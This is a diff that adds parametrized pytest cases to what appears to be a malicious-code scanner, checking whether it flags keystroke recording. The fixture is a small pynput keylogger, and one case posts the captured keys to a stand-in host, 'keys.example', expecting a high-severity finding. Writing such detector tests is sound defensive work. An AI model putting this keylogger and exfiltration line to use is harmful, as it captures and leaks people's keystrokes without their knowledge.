@@ -94,3 +94,31 @@ class M:
 """
     found = inspect_tree({"tokenization_x.py": code.encode()})
     assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is high
+
+
+KEYS = """import requests
+from pynput import keyboard
+kept = []
+def pressed(key):
+    kept.append(str(key))
+def flush():
+    {send}
+def start():
+    keyboard.Listener(on_press=pressed).start()
+"""
+
+
+@pytest.mark.parametrize(
+    ("send", "high"),
+    [
+        ("requests.post('https://keys.example/k', data=''.join(kept))", True),
+        (
+            "return requests.post('https://robots.example/v1/act', json={'keys': kept}).json()",
+            False,
+        ),  # a remote control
+        ("requests.post('http://127.0.0.1:8000/act', json=kept)", False),
+    ],
+)
+def test_keys_that_are_recorded_and_sent(send: str, high: bool) -> None:
+    found = inspect_tree({"utils/shortcuts.py": KEYS.format(send=send).encode()})
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is high
